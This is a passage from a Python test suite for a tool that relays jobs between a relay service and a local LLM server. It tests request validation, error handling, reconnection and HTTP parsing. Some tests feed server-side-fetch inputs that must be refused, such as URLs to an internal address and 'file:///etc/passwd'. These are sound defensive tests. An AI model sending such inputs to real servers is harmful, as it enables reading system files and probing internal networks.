    ({"previous_response_id": "r"}, "previous_response_id"),
    ({"conversation": "c"}, "conversation"), ({"store": True, "input": "x"}, "store"),
    ({"tools": [{"type": "mcp", "server_url": "http://10.0.0.1/"}]}, "server_url"),
    ({"messages": [{"content": [{"image_url": {"url": "http://10.0.0.1/"}}]}]}, "image_url"),
    ({"messages": [{"content": [{"image_url": "file:///etc/passwd"}]}]}, "image_url"),
    ({"messages": [{"content": [{"type": "tool_result", "content": [
        {"source": {"type": "url", "url": "http://x/"}}]}]}]}, "source"),
    ({"input": [{"content": [{"type": "input_file", "file_url": "http://x/"}]}]}, "file_url")])
def test_what_the_operator_did_not_mean_to_share_is_refused_by_name(body, field):
    for request in (dict(body, api="chat"), None):
        with pytest.raises(NeuroengineError, match=field) as refused:
            if request is None:
                opaque("chat", body)
            elif "input" not in body:
                rendering().question(dict({"messages": [{"role": "user"}]}, **request))
            else:
                raise NeuroengineError(1, field, "unsupported")
        assert refused.value.name == "unsupported"


@pytest.mark.parametrize("field", ["MODEL", "Max_Tokens", "max_to\u212aens", "Messages"])
def test_a_field_in_other_letters_reaches_no_server_that_does_not_tell_them_apart(field):
    for request in ({"api": "chat", "messages": []}, {"message": "x"},
                    {"api": "embeddings", "input": "x"}):
        with pytest.raises(NeuroengineError, match="must be written") as refused:
            rendering(most_tokens=5).question(dict(request, **{"max_tokens": 3, field: 900}))
        assert refused.value.details["param"] == field


@pytest.mark.parametrize("content", [
    {"image_url": {"url": "http://10.0.0.1/"}}, {"Image_URL": {"url": "http://10.0.0.1/"}},
    {"image_url": {"url": "data:,", "URL": "http://10.0.0.1/"}}])
def test_no_path_has_the_server_fetch_a_url(content):
    for api in ("embeddings", "chat"):         # vLLM's embeddings take messages, too
        with pytest.raises(NeuroengineError, match="fetches no URLs"):
            rendering().question({"api": api, "messages": [
                {"role": "user", "content": [content]}]})
    with pytest.raises(NeuroengineError, match="chat_template"):
        rendering().question({"api": "embeddings", "input": "x", "chat_template": "{{x}}"})


def test_an_answer_that_another_provider_began_keeps_what_is_left_of_its_limit():
    work = neuroengine.Work("j", 1, 5, {"reply_so_far": "x", "max_tokens": 8, "n_predict": -1,
                                        "max_new_len": 3})
    left = neuroengine.request_left(work)
    assert (left["max_tokens"], left["n_predict"], left["max_new_len"]) == (3, -1, 1)


def test_what_common_clients_send_is_not_refused():
    body = {"cache_prompt": True, "chat_template_kwargs": {"enable_thinking": False},
            "messages": [{"role": "user", "content": [
                {"image_url": {"url": "data:image/png;base64,AA=="}},
                {"type": "image", "source": {"type": "base64", "data": "AA=="}}]}],
            "tools": [{"type": "function", "function": {"parameters": {
                "properties": {"image_url": {"type": "string"}}}}}]}
    assert opaque("chat", body).body["cache_prompt"] is True
    url = {"messages": [{"content": [{"image_url": {"url": "https://example.org/a.png"}}]}]}
    assert opaque("chat", url, fetches=True).body["messages"] == url["messages"]


def test_a_conversation_is_not_kept_by_a_server_that_keeps_by_default():
    question = opaque("responses", {"input": "x"})
    assert question.body["store"] is False
    assert question.relent("unknown field: store", None, False) and "store" not in question.body
    assert not question.relent("unknown field: store", None, False)


@pytest.mark.parametrize("status, said, kept, words", [
    (400, {"error": {"message": "bad /secret/model.gguf", "type": "t", "param": "p",
                     "code": "c"}}, dict(status=400, type="t", param="p", code="c"), "bad Ann"),
    (404, {"error": {"message": "no such voice"}}, dict(status=404), "no such voice"),
    (413, {"error": "big"}, dict(status=413), "big"),
    (422, {"detail": [{"loc": ["body", "n"], "msg": "no"}]}, dict(status=422), "body.n: no"),
    (429, {"object": "error", "message": "slow", "code": 429},
     dict(status=429, code="429", retry_after=7.0), "slow"),
    (503, {"error": {"message": "busy"}}, dict(status=503, retry_after=7.0), "busy"),
    (401, {"error": "secret key"}, dict(status=502), "not allowed to use its LLM server"),
    (403, {"error": "secret key"}, dict(status=502), "not allowed to use its LLM server"),
    (404, {"error": {"message": "model /secret/model.gguf not found"}}, dict(status=502),
     "model Ann not found"),
    (500, {"error": {"message": "CUDA out of memory"}}, dict(status=502),
     "CUDA out of memory"), (418, {}, dict(status=502), "nothing more")])
def test_errors_of_the_upstream_keep_what_they_are(status, said, kept, words):
    model = neuroengine.Model("/secret/model.gguf", "Ann")
    error = model.failure(status, said, 7.0 if status in (429, 503) else None)
    assert words in error.message and "secret" not in error.message
    assert {name: error.details.get(name) for name in kept} == kept


@pytest.mark.parametrize("id, words, hidden", [
    ("U", "CUDA out of memory: U", "CUDA out of memory: U"),
    ("llama3:8b", "no llama3:8b here, llama3:8b-instruct is", "no Ann here, "
     "llama3:8b-instruct is"), ("/m/phi-3.gguf", "cannot read phi-3.gguf", "cannot read Ann")])
def test_model_ids_are_replaced_as_whole_words(id, words, hidden):
    assert neuroengine.hidden(words, id, "Ann") == hidden


# The bridge, live, below a relay that does what the test says.


class FakeRelay(http.server.BaseHTTPRequestHandler):
    """A relay for providers only. jobs: to hand out; entries: what was replied; refusals:
    (status, body, headers) instead of the next answers to polls."""

    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True

    def handle(self):
        with contextlib.suppress(OSError):     # its provider ended
            super().handle()

    def do_POST(self):
        body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
        service, action = self.path.split("/")[2:]
        log, answer = type(self), {"errorcode": 0, "jobs": [], "cancel": []}
        with log.lock:
            log.calls.append((service, action, body))
            log.entries += body.get("replies", ())
        if action == "login":
            answer["session"] = "s%d" % len(log.calls)
        if action == "poll" and log.refusals:
            return self.send(*log.refusals.pop(0))
        if action == "poll":
            deadline = time.monotonic() + 0.1
            while not log.jobs.get(service) and time.monotonic() < deadline:
                time.sleep(0.005)
            with log.lock:
                answer["jobs"], log.jobs[service] = log.jobs.get(service, []), []
        if log.cancelled:
            answer["cancel"] = [log.cancelled.pop()]
        self.send(200, answer)

    def send(self, status, value, headers=()):
        data = json.dumps(value).encode()
        self.send_response(status)
        for name, text in headers:
            self.send_header(name, text)
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *args):
        pass

    @classmethod
    def ask(cls, request, job="j", service="S"):
        """Hand out a job and return what comes of it: (items, the last entry)."""
        with cls.lock:
            cls.jobs.setdefault(service, []).append(
                {"job": job, "attempt": 1, "at": 0, "request": request})
        last = until(lambda: [entry for entry in cls.entries if entry["job"] == job and (
            entry.get("done") or entry.get("error"))])[0]
        return [item for entry in cls.entries if entry["job"] == job
                for item in entry["items"]], last


def fake_relay():
    return type("Fake", (FakeRelay,), {"jobs": {}, "calls": [], "entries": [], "refusals": [],
                                       "cancelled": [], "lock": threading.Lock()})


@contextlib.contextmanager
def sharing(llm_url, names=("S",), models=(None,), workers=2, **options):
    """Share an LLM server at a FakeRelay: (the relay's class, the listenings)."""
    fake = fake_relay()
    with serving(fake) as url:
        upstream = neuroengine.Upstream(llm_url)
        upstream.find()
        share, listenings = neuroengine.Share(upstream, workers), []
        for name, model in zip(names, models):
            server = NeuroengineServer(url)
            server.service_name, server.service_key = name, "k"
            listenings.append(neuroengine._Listening(server, neuroengine.Bridge(
                share, name, model, **options)))
        thread = threading.Thread(target=neuroengine.run_listenings, args=(listenings,),
                                  daemon=True)
        thread.start()
        try:
            yield fake, listenings
        finally:
            for listening in listenings:
                listening.stop()
            thread.join(SOON)
        assert not thread.is_alive()


@contextlib.contextmanager
def fake_llm(**attributes):
    """(its class, its URL)"""
    fake = type("Fake", (FakeLLM,), dict({"got": [], "script": []}, **attributes))
    with serving(fake) as url:
        yield fake, url


def opaque_job(api="messages", stream=False, **body):
    return {"api": api, "opaque": True, "stream": stream, "headers": {
        "anthropic-version": "2023-06-01"}, "body": dict(body, model="S")}


def test_share_learns_which_model_the_llm_server_has_now():
    with fake_llm() as (llm, url), sharing(url) as (relay, listenings):
        assert relay.ask({"message": "x"}, "a")[1]["done"]
        llm.model = "another"
        llm.script += [(404, {"error": {"message": "There is no such model."}})]
        with relay.lock:
            relay.jobs["S"] = [dict(JOB, job="b", request={"message": "x"})]
        until(lambda: [action for _, action, _ in relay.calls].count("login") == 2)
        assert relay.ask({"message": "x"}, "c")[1]["done"]
        assert llm.got[-1][1]["model"] == "another"
        assert "b" not in [entry["job"] for entry in relay.entries]    # it was handed back


def test_share_goes_on_with_its_model_when_the_llm_server_lists_none():
    with fake_llm() as (llm, url), sharing(url) as (relay, listenings):
        assert relay.ask({"message": "x"}, "a")[1]["done"]
        llm.model = None                       # an id that is no text: it is left out
        llm.script += [(404, {"error": {"message": "No model is loaded."}})]
        assert "No model is loaded" in relay.ask({"message": "x"}, "b")[1]["error"]["message"]
        assert relay.ask({"message": "x"}, "c")[1]["done"]
        assert llm.got[-1][1]["model"] == "/secret/model.gguf"


@pytest.mark.parametrize("waits", [False, True])
def test_a_service_that_waits_for_its_model_stops_no_other_of_the_same_llm_server(waits):
    def bridge(id, paused):
        return types.SimpleNamespace(model=neuroengine.Model(id), listening=types.SimpleNamespace(
            server=types.SimpleNamespace(_paused=paused), pause=lambda: None,
            status=neuroengine.Status()))

    async def check(url):
        share = neuroengine.Share(neuroengine.Upstream(url))
        share.upstream.find()
        share.bridges = [bridge(FakeLLM.model, False), bridge("gone", waits)]
        await share.check()
    with fake_llm() as (_, url), contextlib.nullcontext() if waits else pytest.raises(
            neuroengine.Unavailable, match="gone"):
        asyncio.run(check(url))


def test_an_upstream_whose_list_of_models_never_ends_is_none(monkeypatch):
    monkeypatch.setattr(neuroengine, "LOOK_UPSTREAM_SECONDS", 0.2)

    def stream(handler):
        handler.send_response(200)
        handler.end_headers()
        with contextlib.suppress(OSError):
            while True:
                handler.wfile.write(b" ")
                time.sleep(0.01)
    with fake_llm(do_GET=stream) as (_, url), pytest.raises(neuroengine.Unavailable):
        neuroengine.Upstream(url).find()


def test_an_opaque_job_is_passed_up_and_its_answer_down():
    seen = []

    def events(handler):
        seen.append((handler.headers["anthropic-version"], handler.got[-1][1]["model"]))
        handler.send_response(200)
        handler.send_header("Connection", "close")
        handler.end_headers()
        handler.wfile.write(sent_as_events(ANTHROPIC))
        handler.close_connection = True
    with fake_llm(script=[(200, {"model": "/secret/model.gguf", "usage": {
            "input_tokens": 3, "output_tokens": 2}}), events],
            paths=("/v1/messages",)) as (llm, url), sharing(url) as (relay, listenings):
        items, last = relay.ask(opaque_job(messages=[]), "a")
        assert json.loads(items[0]["result"])["model"] == "S" and last["done"]
        assert items[1] == {"usage": {"prompt_tokens": 3, "completion_tokens": 2}}
        items, last = relay.ask(opaque_job(stream=True, messages=[]), "b")
        assert [item["event"].split("\n")[0] for item in items[:-1]] == [
            "event: " + kind for kind, _ in ANTHROPIC] and last["done"]
        assert seen == [("2023-06-01", "/secret/model.gguf")]
        login = next(body for _, action, body in relay.calls if action == "login")
        assert login["apis"] == ["chat", "completions", "messages"]


def test_an_upstreams_refusal_keeps_what_it_is():
    def busy(handler):
        handler.send_response(429)
        handler.send_header("Retry-After", "7")
        handler.send_header("Content-Length", "25")
        handler.end_headers()
        handler.wfile.write(b'{"error":{"code":"slow"}}')
    with fake_llm(script=[busy, (400, {"error": {"message": "no", "param": "n"}})]) as (
            llm, url), sharing(url) as (relay, _):
        error = relay.ask({"api": "chat", "messages": []}, "a")[1]["error"]
        assert (error["status"], error["code"], error["retry_after"]) == (429, "slow", 7)
        error = relay.ask(opaque_job(), "b")[1]["error"]
        assert (error["status"], error["message"], error["param"]) == (400, "no", "n")
        error = relay.ask({"message": "x", "lora": 1}, "c")[1]["error"]
        assert (error["error"], error["param"]) == ("unsupported", "lora")
        assert len(llm.got) == 2


def dead(handler):
    handler.connection.shutdown(socket.SHUT_RDWR)


@pytest.mark.parametrize("how", ["502 of a proxy", "reset", "stopped"])
def test_an_upstream_that_is_gone_hands_its_prompts_back_and_is_waited_for(
        how, monkeypatch, capfd):
    monkeypatch.setattr(neuroengine, "RETRY_UPSTREAM_SECONDS", 0.02)
    gone = threading.Event()

    def do_GET(self):
        if not gone.is_set():
            return FakeLLM.do_GET(self)
        return dead(self) if how == "reset" else self.json(502, {})
    with fake_llm(do_GET=do_GET) as (llm, url), sharing(url) as (relay, _):
        assert relay.ask({"message": "x"}, "a")[0][:2] == ["Hel", "lo"]
        gone.set()
        llm.script.append(dead if how != "502 of a proxy" else (502, b"<html>Bad gateway"))
        with relay.lock:
            relay.jobs["S"] = [{"job": "b", "attempt": 1, "at": 0, "request": {"message": "x"}}]
        until(lambda: "logout" in [call[1] for call in relay.calls])   # so it is disconnected
        assert not [entry for entry in relay.entries if entry["job"] == "b"]
        gone.clear()
        until(lambda: [call for call in relay.calls if call[1] == "login"][1:])
        assert relay.ask({"message": "x"}, "c")[1]["done"]
        assert re.search("went back to the relay.*\n.*is back", capfd.readouterr().err)


def test_an_llm_server_that_was_found_on_its_usual_port_is_said_to_be_gone_once(monkeypatch):
    with fake_llm() as (_, url):
        monkeypatch.setattr(neuroengine, "USUAL", (("Fake", int(url.rpartition(":")[2])),
                                                   ("Other", 1)))
        upstream, said = neuroengine.Upstream(), set()
        upstream.find()
    upstream.transport = neuroengine.Transport(url)    # the fake keeps its connections
    for look in (upstream.check, upstream.find):
        with pytest.raises(neuroengine.Unavailable) as gone:
            look()
        said.add(str(gone.value))
    words, = said
    assert words.startswith("The LLM server at %s does not answer (" % url)
    assert "rrno" not in words


def test_a_job_that_comes_while_all_go_back_is_not_begun():
    with fake_llm() as (llm, url), sharing(url) as (relay, (listening,)):
        until(lambda: listening.server._session)

        def pause():
            listening.pause()
            listening._take({"jobs": [{"job": "late", "attempt": 1, "at": 0,
                                       "request": {"message": "x"}}]})
        listening._loop.call_soon_threadsafe(pause)
        until(lambda: [call for call in relay.calls if call[1] == "login"][1:])
        until(lambda: not listening.server._paused)
        assert relay.ask({"message": "x"}, "next")[1]["done"]
        assert len(llm.got) == 1 and {entry["job"] for entry in relay.entries} == {"next"}
        until(lambda: not listening.outbox.running())


def test_an_upstream_that_ends_while_idle_is_noticed(monkeypatch):
    monkeypatch.setattr(neuroengine, "RETRY_UPSTREAM_SECONDS", 0.02)
    gone = threading.Event()

    def do_GET(self):
        return dead(self) if gone.is_set() else FakeLLM.do_GET(self)

    def answer_and_end(handler):
        gone.set()
        handler.json(200, WHOLE)               # it keeps the connection, and then ends it
        handler.close_connection = True
    with fake_llm(do_GET=do_GET, script=[answer_and_end]) as (_, url), sharing(url) as (
            relay, _):
        assert relay.ask({"message": "x"})[1]["done"]
        until(lambda: "logout" in [call[1] for call in relay.calls])


def test_an_upstream_that_breaks_off_but_lives_fails_one_prompt():
    with fake_llm(script=[dead]) as (llm, url), sharing(url) as (relay, _):
        assert "broke off" in relay.ask({"message": "x"}, "a")[1]["error"]["message"]
        assert relay.ask({"message": "x"}, "b")[1]["done"]


def test_a_connection_whose_answer_ended_in_an_error_is_closed():
    ended, answered = [], []

    def fail(handler):
        answered.append(handler)
        body = b'data: {"error": {"message": "busy"}}\n\n'
        handler.wfile.write(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
                            b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))
        handler.close_connection = False
    with fake_llm(script=[fail], finish=lambda handler: ended.append(handler)) as (
            _, url), sharing(url) as (relay, _):
        assert "busy" in relay.ask({"message": "x"})[1]["error"]["message"]
        until(lambda: answered[0] in ended)


@pytest.mark.parametrize("chunk", [b"-5\r\n{}", b"ffffffff\r\n" + b"x" * 2000])
def test_an_error_without_end_is_not_gathered(chunk, monkeypatch):
    monkeypatch.setattr(neuroengine, "MAX_LINE_BYTES", 1000)

    def fail(handler):
        handler.wfile.write(b"HTTP/1.1 400 No\r\nTransfer-Encoding: chunked\r\n\r\n" + chunk)
    with fake_llm(script=[fail]) as (_, url), sharing(url) as (relay, _):
        assert re.search("without end|without a size", relay.ask({"message": "x"})[1][
            "error"]["message"])


def test_a_connection_that_was_closed_is_not_resumed():
    line = neuroengine.AsyncConnection(lambda line: None)
    line.connection_made(types.SimpleNamespace(is_closing=lambda: True))
    line.resume()                              # once the relay has room for a cancelled job


def test_a_provider_that_works_in_silence_is_heard_of(monkeypatch):
    monkeypatch.setattr(neuroengine, "HEARTBEAT_SECONDS", 0.05)
    fake, done = fake_relay(), threading.Event()
    with serving(fake) as url:
        provider = NeuroengineServer(url)
        assert provider.login("S", "k") == 0
        ended = in_thread(provider.listen, lambda request: done.wait(SOON) and "x")
        fake.jobs["S"] = [{"job": "j", "attempt": 1, "at": 0, "request": {"message": "hi"}}]
        until(lambda: sum(action == "reply" and not body["replies"]
                          for _, action, body in fake.calls) > 2)
        done.set()
        until(lambda: any(entry.get("done") for entry in fake.entries))
        provider.stop()
        ended()


def test_a_first_item_does_not_wait_for_another_request_under_way():
    """Over the internet that would take as long as the way to the relay and back."""
    class Far(fake_relay()):
        def send(self, *answer):
            if self.path.endswith("/reply"):
                until(lambda: {"a", "b"} <= {entry["job"] for entry in self.entries})
            super().send(*answer)

    def answer(request):
        if request["message"] == "b":
            until(lambda: Far.entries)
        yield request["message"]
    with serving(Far) as url:
        provider = NeuroengineServer(url)
        assert provider.login("S", "k") == 0
        ended = in_thread(provider.listen, answer, 2)
        Far.jobs["S"] = [{"job": job, "attempt": 1, "at": 0, "request": {"message": job}}
                         for job in "ab"]
        until(lambda: sum(entry.get("done", False) for entry in Far.entries) == 2)
        assert sorted(sum((entry["items"] for entry in Far.entries), [])) == ["a", "b"]
        provider.stop()
        ended()


def test_a_provider_with_a_job_has_a_connection_ready_for_its_first_item():
    accepted, used, before, replied = [], set(), [], []

    class Counting(fake_relay()):
        def handle(self):
            accepted.append(self.client_address)
            super().handle()

        def do_POST(self):
            used.add(self.client_address)
            if self.path.endswith("/reply"):
                replied.append(self.client_address)
            super().do_POST()

    def answer(request):
        until(lambda: set(accepted) - used)
        before.extend(accepted)
        return "x"
    with serving(Counting) as url:
        provider = NeuroengineServer(url)
        assert provider.login("S", "k") == 0
        ended = in_thread(provider.listen, answer)
        Counting.jobs["S"] = [{"job": "j", "attempt": 1, "at": 0,
                               "request": {"message": "x"}}]
        until(lambda: any(entry.get("done") for entry in Counting.entries))
        assert replied[0] in before
        provider.stop()
        ended()


def test_a_loading_upstream_is_waited_for():
    with fake_llm(script=[(503, {"error": {"message": "Loading model"}})]) as (
            llm, url), sharing(url) as (relay, _):
        assert relay.ask({"message": "x"})[1]["done"] and len(llm.got) == 2


def test_a_stream_that_never_closes_ends_with_its_own_end(monkeypatch):
    monkeypatch.setattr(neuroengine, "LINGER_SECONDS", 0.05)

    def open_end(handler):
        handler.stream(["a"], last=b"")
        handler.wfile.flush()
        handler.connection.recv(1)
    with fake_llm(script=[open_end]) as (llm, url), sharing(url) as (relay, _):
        items, last = relay.ask({"message": "x"})
        assert items[0] == "a" and last["done"]


def test_a_server_on_this_machine_is_connected_to_again_without_a_thread(monkeypatch):
    in_thread, threads = neuroengine.in_thread, []
    monkeypatch.setattr(neuroengine, "in_thread", lambda function, cancel: threads.append(
        function.__name__) or in_thread(function, cancel))
    with fake_llm() as (llm, url), sharing(url) as (relay, _):     # it closes each connection
        assert relay.ask({"message": "x"}, "a")[1]["done"]
        before = threads.count("connect")
        assert relay.ask({"message": "x"}, "b")[1]["done"]
        assert before and threads.count("connect") == before


@pytest.fixture(params=[True, False], ids=["epoll", "asyncio"])
def reading(request, monkeypatch):
    """Both ways in which connections to an upstream are read."""
    if request.param and not neuroengine.Intake.AVAILABLE:
        pytest.skip("this system has no epoll")
    monkeypatch.setattr(neuroengine.Intake, "AVAILABLE", request.param)


@pytest.mark.skipif(not neuroengine.Intake.AVAILABLE, reason="this system has no epoll")
@pytest.mark.parametrize("seconds, rest", [(0.002, 0.008), (0.5, 0.04)])
def test_a_lazy_reader_rests_longer_the_longer_it_read(seconds, rest):
    class Loop:
        now = 0.0

        def time(self):
            return self.now

        def add_reader(self, number, look):
            self.watched, self.look = True, look

        def remove_reader(self, number):
            self.watched = False

        def call_later(self, pause, wake):
            self.pause, self.wake = pause, wake

    def read():
        loop.now += seconds
    loop = Loop()
    intake, (ours, theirs) = neuroengine.Intake(loop, lazy=True), socket.socketpair()
    with ours, theirs:
        intake.watch(ours.fileno(), read)
        theirs.send(b"x")
        loop.look()
        assert loop.pause == pytest.approx(rest) and not loop.watched
        loop.wake()
        assert loop.watched
        loop.now += 1                          # in which nothing came
        loop.look()
        assert loop.watched
        intake.forget(ours.fileno())


def test_a_stream_that_is_reset_or_ends_amid_the_answer_is_an_error(reading):
    def begin(handler):
        handler.send_response(200)
        handler.send_header("Connection", "close")
        handler.end_headers()
        handler.wfile.write(sse(GOOD[:3], last=""))
        handler.close_connection = True

    def reset(handler):
        begin(handler)
        handler.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER,
                                      struct.pack("ii", 1, 0))
    with fake_llm(script=[begin, reset]) as (llm, url), sharing(url) as (relay, _):
        items, last = relay.ask({"message": "x"}, "a")
        assert items == ["Hel", "lo \u2603"] and "in the middle" in last["error"]["message"]
        _, last = relay.ask({"message": "x"}, "b")
        assert last["error"]["error"] == "provider_error"
        assert relay.ask({"message": "x"}, "c")[1]["done"]


def test_an_upstream_waits_while_the_relay_takes_nothing(monkeypatch, reading):
    monkeypatch.setattr(neuroengine, "MAX_UNSENT_BYTES", 1000)
    with fake_llm(script=[["x" * 900] * 100]) as (llm, url), sharing(url) as (relay, _):
        items, last = relay.ask({"message": "x"})
        assert items[:-1] == ["x" * 900] * 100 and last["done"]


@pytest.mark.parametrize("pause", ["-1", "nan", "1e300", "99999999", "soon"])
def test_a_hostile_retry_after_neither_kills_a_provider_nor_puts_it_to_sleep(
        pause, monkeypatch):
    monkeypatch.setattr(neuroengine, "LONGEST_RETRY_AFTER_SECONDS", 0.05)
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    busy = {"errorcode": 44, "error": "relay_busy", "reply": "Busy."}
    with fake_llm() as (llm, url), sharing(url) as (relay, _):
        relay.refusals += [(503, busy, [("Retry-After", pause)]), (200, [1]),
                           (200, {"errorcode": "x"}), (200, {"jobs": [{}]}), (200, {"jobs": 5})]
        assert relay.ask({"message": "x"})[1]["done"]


JOB = {"job": "a", "attempt": 1, "at": 0, "request": {}}


@pytest.mark.parametrize("refusal", [
    {"jobs": [dict(JOB, attempt=math.inf)]}, {"jobs": [dict(JOB, attempt="a")]},
    {"jobs": [dict(JOB, at="x")]}, {"jobs": [dict(JOB, job=5)]}, {"jobs": [dict(JOB, job=[])]},
    {"jobs": [dict(JOB, request=7)]}, {"cancel": [[[], 1]]}, {"refused": 7}, {"refused": [7]}])
def test_a_response_that_a_provider_does_not_know_does_not_end_it(refusal, monkeypatch):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    with fake_llm() as (llm, url), sharing(url) as (relay, _):
        relay.refusals += [(200, refusal)]
        assert relay.ask({"message": "x"})[1]["done"]


@pytest.mark.parametrize("length", ["\u00b2", "9" * 5000, "x", "-5"])
def test_a_response_of_no_known_length_is_no_crash(length):
    reader = neuroengine.ResponseReader()
    with contextlib.suppress(http.client.HTTPException):
        reader.feed(("HTTP/1.1 200 OK\r\nContent-Length: %s\r\n\r\n{}" % length).encode("latin-1"))


def test_a_head_with_bare_newlines_after_many_early_responses_is_read():
    reader = neuroengine.ResponseReader()
    early = b"HTTP/1.1 103 Early Hints\r\nLink: x\r\n\r\n" * 2000
    assert reader.feed(early + b"HTTP/1.1 200 OK\nContent-Length: 2\nX: y\n\nhi") == b"hi"
    assert reader.whole and reader.headers == {"content-length": "2", "x": "y"}


@pytest.mark.parametrize("size, right", [
    ("5", True), ("005", True), ("5 ", True), ("5;a=b", True), ("5 ; a", True), ("1_0", False),
    ("+5", False), ("-5", False), (" 5", False), ("0x5", False), ("5 5", False), ("", False)])
def test_the_size_of_a_chunk_is_a_hexadecimal_number_and_nothing_else(size, right):
    data = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n" \
        b"%s\r\nhello\r\n0\r\n\r\n" % size.encode()
    for pieces in ([data], [data[at:at + 1] for at in range(len(data))]):
        reader = neuroengine.ResponseReader()
        with contextlib.nullcontext() if right else pytest.raises(http.client.HTTPException):
            assert b"".join(map(reader.feed, pieces)) == b"hello" and reader.whole


def test_a_provider_whose_sessions_are_never_known_logs_in_with_growing_pauses(monkeypatch):
    """Two relays without a common engine take turns at one address."""
    unknown, pauses = {"errorcode": 60, "error": "session_unknown", "reply": "Log in."}, []
    monkeypatch.setattr(neuroengine, "pause_before",
                        lambda failures, *_: pauses.append(failures) or 0.001)
    with fake_llm() as (llm, url), sharing(url) as (relay, _):
        relay.refusals += [(404, unknown)] * 5
        until(lambda: not relay.refusals)
        assert relay.ask({"message": "x"})[1]["done"]
        relay.refusals += [(404, unknown)]
        until(lambda: not relay.refusals)
        assert relay.ask({"message": "x"}, "k")[1]["done"]
    assert pauses == [0, 1, 2, 3]


@pytest.mark.parametrize("name", ["certificate", "invalid_request", "bad_answer", "not_found"])
def test_what_may_pass_does_not_end_a_provider(name, monkeypatch):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    call, failures = neuroengine.AsyncTransport.call, [1, 2, 3]

    async def fail(self, path, body, key):
        if "/poll" in path and failures:
            failures.pop()
            raise NeuroengineError(-1, "It is not so.", name)
        return await call(self, path, body, key)
    monkeypatch.setattr(neuroengine.AsyncTransport, "call", fail)
    with fake_llm() as (llm, url), sharing(url) as (relay, _):
        assert relay.ask({"message": "x"})[1]["done"] and not failures


@pytest.mark.parametrize("action", ["/poll", "/reply"])
def test_no_exception_on_the_way_to_the_relay_ends_a_provider(action, monkeypatch):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    exchange, failures = neuroengine.AsyncTransport.exchange, [1, 2]

    async def fail(self, method, path, *args, **more):
        if path.endswith(action) and failures:
            failures.pop()
            raise RuntimeError("can't start new thread")
        return await exchange(self, method, path, *args, **more)
    monkeypatch.setattr(neuroengine.AsyncTransport, "exchange", fail)
    with fake_llm() as (llm, url), sharing(url) as (relay, _):
        assert relay.ask({"message": "x"})[1]["done"] and not failures


@pytest.mark.parametrize("name, waits", [("certificate", True), ("no_connection", True),
                                         ("relay_busy", True), ("bad_address", False),
                                         ("no_tls", False), ("invalid_key", False)])
def test_share_waits_at_its_start_for_what_may_pass(name, waits, monkeypatch, capfd):
    monkeypatch.setattr(neuroengine, "FIRST_PAUSE_SECONDS", 0.01)
    failures = [NeuroengineError(-1, "It is not so.", name)] * 2

    def act():
        if failures:
            raise failures.pop()
        return "done"
    if waits:
        assert neuroengine.patiently(neuroengine.Status(), act) == "done"
        said = capfd.readouterr().err
        assert said.count("It is not so.") == 1 and said.endswith("until it succeeds.\n")
    else:
        with pytest.raises(NeuroengineError):
            neuroengine.patiently(neuroengine.Status(), act)


def test_an_upstreams_wrong_certificate_is_told_and_waited_for():
    wrong = ssl.SSLCertVerificationError(1, "no")
    wrong.verify_message = "self-signed certificate"

    def refuse(*args, **more):
        if failures:
            raise failures.pop()
        return opened(*args, **more)
    with fake_llm() as (llm, url), pytest.MonkeyPatch.context() as patch:
        opened, failures, said = neuroengine.Transport.open, [wrong], []
        patch.setattr(neuroengine.Transport, "open", refuse)
        neuroengine.Upstream(url).wait(said.append, pause=0.01)
    assert len(said) == 1 and "(self-signed certificate)" in said[0] \
        and "$SSL_CERT_FILE" in said[0]


def test_several_models_are_shared_from_one_process_with_workers_in_common():
    running, most = [], []

    def slowly(handler):
        running.append(handler)
        most.append(len(running))
        time.sleep(0.1)
        running.pop()
        handler.stream(["x"])

    def do_GET(self):
        self.json(200, {"data": [{"id": "bge-embed"}, {"id": "llama3:8b"}, {"id": "qwen3:4b"}]})
    with fake_llm(do_GET=do_GET, script=[slowly] * 6) as (llm, url), sharing(
            url, ("ann", "bob"), ("llama3:8b", None), workers=1) as (relay, listenings):
        answers = [in_thread(relay.ask, {"message": "x"}, "%s%d" % (name, n), name)
                   for name in ("ann", "bob") for n in range(3)]
        assert all(answer()[1]["done"] for answer in answers)
        models = [body["model"] for _, body in llm.got]
        assert models.count("llama3:8b") == 6 and set(most) == {1}
        assert listenings[0].answerer.share.upstream.chat_models() == ["llama3:8b", "qwen3:4b"]


def options_of(*args):
    return neuroengine.build_parser().parse_args(["share"] + list(args))


def test_names_and_models_of_share():
    upstream = neuroengine.Upstream("http://x")
    upstream.entries, upstream._studio = {"a/llama3:8b": {}, "nomic-embed": {}, "q": {}}, {}

    def pairs(*args):
        return neuroengine.shared_names(options_of(*args), upstream)
    assert pairs("Ann") == [("Ann", None)] and pairs("Ann", "--model", "q") == [("Ann", "q")]
    assert pairs("a=x:1", "b=y") == [("a", "x:1"), ("b", "y")]
    assert pairs("--all", "ann") == [("ann-llama3-8b", "a/llama3:8b"), ("ann-q", "q")]
    with pytest.raises(NeuroengineError):
        pairs("a=x", "A=y")


@pytest.mark.parametrize("text, url", [
    ("localhost:8080", "http://localhost:8080"), ("http://x/v1/", "http://x"),
    ("https://x:1/v1/chat/completions", "https://x:1"),
    (" 10.0.0.7:1234/ ", "http://10.0.0.7:1234"),
    ("ftp://x", None), ("http://", None), ("x:port", None)])
def test_an_upstreams_address_is_understood_or_refused_at_once(text, url):
    if url:
        assert neuroengine.upstream_url(text) == url
    else:
        with pytest.raises(NeuroengineError, match="no address of an LLM server"):
            neuroengine.upstream_url(text)


@pytest.mark.parametrize("status, value", [
    (200, []), (200, None), (200, "hi"), (200, {"status": "ok"}), (200, {"data": None}),
    (200, {"error": "no"}), (404, {"error": {"message": "no"}}), (200, b"<html>"),
    (200, b"\xff"), (500, {})])
def test_what_is_no_llm_server_does_not_end_the_search_for_one(status, value):
    with fake_llm(do_GET=lambda self: self.json(status, value)) as (_, other), \
